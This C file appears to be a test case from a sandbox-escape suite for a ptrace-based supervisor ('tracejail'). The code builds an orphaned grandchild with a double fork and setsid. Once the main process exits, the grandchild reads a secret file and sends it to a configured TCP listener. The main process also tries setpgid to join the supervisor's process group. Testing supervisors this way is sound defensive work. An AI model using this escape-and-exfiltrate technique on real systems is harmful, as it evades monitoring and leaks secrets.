/* tracejail-escape
 * id: tree-leave
 * class: leaving the tree
 * title: an orphaned grandchild (double fork + setsid) that acts after the main process is gone
 * covered: standard
 * needs: listener secret
 *
 * Technique: daemons leave their parent's tree with a double fork and setsid: the grandchild is
 * reparented to init (or a subreaper) in a new session. A supervisor that stops watching, or
 * stops the run, when its first process exits leaves such a grandchild running unsupervised.
 * Here the grandchild waits until the main process has exited (a pipe that closes then, and a
 * pidfd), then connects to TJ_LISTEN, reads TJ_SECRET and writes what it got to
 * TJ_SCRATCH/tree_leave.result. The main process also tries to join the supervisor's process
 * group with setpgid, which would put the supervisor in reach of our group-wide signals.
 * Defence: every descendant stays traced whatever its parent or session (ptrace follows it, not
 * the process tree); the run ends only when the whole tree has exited or been killed, and the
 * denied listener and secret stay denied. setpgid to a group outside the tree is denied.
 * The main process always ends BLOCKED; the listener (did anyone connect?) is the oracle.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int tracer_pid(void) {
  FILE *f = fopen("/proc/self/status", "r");
  char line[256];
  int pid = 0;
  while (f && fgets(line, sizeof line, f))
    if (sscanf(line, "TracerPid: %d", &pid) == 1) break;
  if (f) fclose(f);
  return pid;
}

/* The grandchild, after the main process is gone. Reports only to the listener and the file. */
static void grandchild(pid_t main_pid, int wait_fd) {
  int null = open("/dev/null", O_RDWR);
  if (null >= 0) { dup2(null, 0); dup2(null, 1); dup2(null, 2); }
  int pidfd = (int)syscall(SYS_pidfd_open, main_pid, 0);
  /* EOF on the pipe: the main process closed its end, i.e. it is exiting (bounded: 10 s). */
  struct pollfd pf = {wait_fd, POLLIN, 0};
  char c;
  if (poll(&pf, 1, 10000) > 0) (void)!read(wait_fd, &c, 1);
  if (pidfd >= 0) { /* and a pidfd that is readable once it has really exited */
    struct pollfd pp = {pidfd, POLLIN, 0};
    poll(&pp, 1, 5000);
  }
  char report[1024], secret_line[256] = "";
  const char *secret = getenv("TJ_SECRET");
  int fd = secret ? open(secret, O_RDONLY) : -1;
  if (fd >= 0) {
    ssize_t n = read(fd, secret_line, sizeof secret_line - 1);
    secret_line[n > 0 ? n : 0] = 0;
    secret_line[strcspn(secret_line, "\n")] = 0;
    close(fd);
  } else {
    snprintf(secret_line, sizeof secret_line, "open -> %s", strerrorname_np(errno));
  }
  const char *listen = getenv("TJ_LISTEN");
  char host[64] = "";
  int port = 0;
  const char *connect_result = "TJ_LISTEN not set";
  if (listen && sscanf(listen, "%63[^:]:%d", host, &port) == 2) {
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, host, &sa.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s >= 0 && connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
      connect_result = "connected";
      snprintf(report, sizeof report, "tree_leave grandchild %d (main %d gone): secret: %s\n",
               getpid(), main_pid, secret_line);
      (void)!write(s, report, strlen(report));
    } else {
      connect_result = strerrorname_np(errno);
    }
    if (s >= 0) close(s);
  }
  const char *scratch = getenv("TJ_SCRATCH");
  if (scratch) {
    char path[4096];
    snprintf(path, sizeof path, "%s/tree_leave.result", scratch);
    int out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (out >= 0) {
      snprintf(report, sizeof report,
               "grandchild %d ran after main %d exited (TracerPid %d)\nconnect %s: %s\n"
               "secret: %s\n",
               getpid(), main_pid, tracer_pid(), listen ? listen : "-", connect_result,
               secret_line);
      (void)!write(out, report, strlen(report));
      close(out);
    }
  }
  _exit(0);
}

int main(void) {
  pid_t main_pid = getpid();
  int wait_pipe[2], id_pipe[2];
  if (pipe(wait_pipe) != 0 || pipe(id_pipe) != 0) { printf("BLOCKED: pipe failed\n"); return 0; }
  fflush(stdout);
  pid_t a = fork();
  if (a == 0) {
    close(id_pipe[0]);
    pid_t sid = setsid();
    pid_t g = fork();
    if (g == 0) {
      close(wait_pipe[1]);
      close(id_pipe[1]);
      grandchild(main_pid, wait_pipe[0]);
    }
    int info[2] = {g, sid};
    (void)!write(id_pipe[1], info, sizeof info);
    _exit(0); /* the grandchild is now an orphan */
  }
  close(wait_pipe[0]);
  close(id_pipe[1]);
  int info[2] = {-1, -1};
  ssize_t got = a > 0 ? read(id_pipe[0], info, sizeof info) : -1;
  if (a > 0) waitpid(a, NULL, 0);
  if (a < 0)
    printf("fork: %s\n", strerrorname_np(errno));
  else if (got != (ssize_t)sizeof info || info[0] < 0)
    printf("double fork: the middle child could not fork the grandchild\n");
  else
    printf("double fork + setsid: middle child %d exited; grandchild %d orphaned (setsid: %s)\n",
           a, info[0], info[1] < 0 ? "failed" : "new session");

  /* Join the supervisor's process group (or our parent's, untraced). */
  int t = tracer_pid();
  pid_t target = t > 0 ? t : getppid();
  pid_t pgid = target > 0 ? getpgid(target) : -1;
  int escaped = 0;
  if (target <= 0) {
    printf("setpgid: no visible supervisor or parent (outside our PID namespace): skipped\n");
  } else if (pgid < 0) {
    printf("getpgid(%s %d): %s\n", t > 0 ? "supervisor" : "parent", target, strerrorname_np(errno));
  } else if (pgid == getpgrp()) {
    printf("setpgid: already in %s %d's process group %d (nothing to join)\n",
           t > 0 ? "supervisor" : "parent", target, pgid);
  } else {
    int r = setpgid(0, pgid);
    printf("setpgid(0, %d) [%s %d's group]: %s\n", pgid, t > 0 ? "supervisor" : "parent", target,
           r == 0 ? "JOINED" : strerrorname_np(errno));
    if (r == 0) escaped = pgid;
  }
  /* Our exit closes wait_pipe[1]: that is the grandchild's signal to go. */
  if (escaped)
    printf("ESCAPED: joined the process group %d of %s %d (setpgid); main process exits; a "
           "surviving grandchild would contact the listener\n",
           escaped, t > 0 ? "the supervisor" : "our parent", target);
  else
    printf("BLOCKED: main process exits; a surviving grandchild would contact the listener\n");
  return 0;
}
